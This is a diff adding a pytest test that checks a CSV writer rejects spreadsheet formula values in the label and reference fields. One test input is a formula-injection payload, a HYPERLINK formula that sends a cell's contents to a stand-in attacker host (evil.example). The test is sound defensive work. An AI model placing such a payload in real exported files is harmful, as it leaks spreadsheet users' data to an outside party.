@@ -132,6 +132,14 @@ def test_what_does_not_fit_is_named_and_nothing_is_cut(layout: Layout, field: st
     assert reason in refused.value.details["reason"]
 
 
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3", "@SUM(A1)"])
+@pytest.mark.parametrize("field", ["label", "reference"])
+def test_what_is_a_formula_to_a_spreadsheet_is_in_no_csv(field: str, value: str) -> None:
+    with pytest.raises(Problem) as refused:
+        written(ERP[1], **{field: value[:32]})
+    assert (refused.value.details["field"], "formula" in refused.value.details["reason"]) == (f"line 1, {field}", True)
+
+
 def test_a_character_that_the_files_alphabet_lacks_is_named() -> None:
     with pytest.raises(Problem) as refused:
         written(ERP[0], label="Ventil №5")
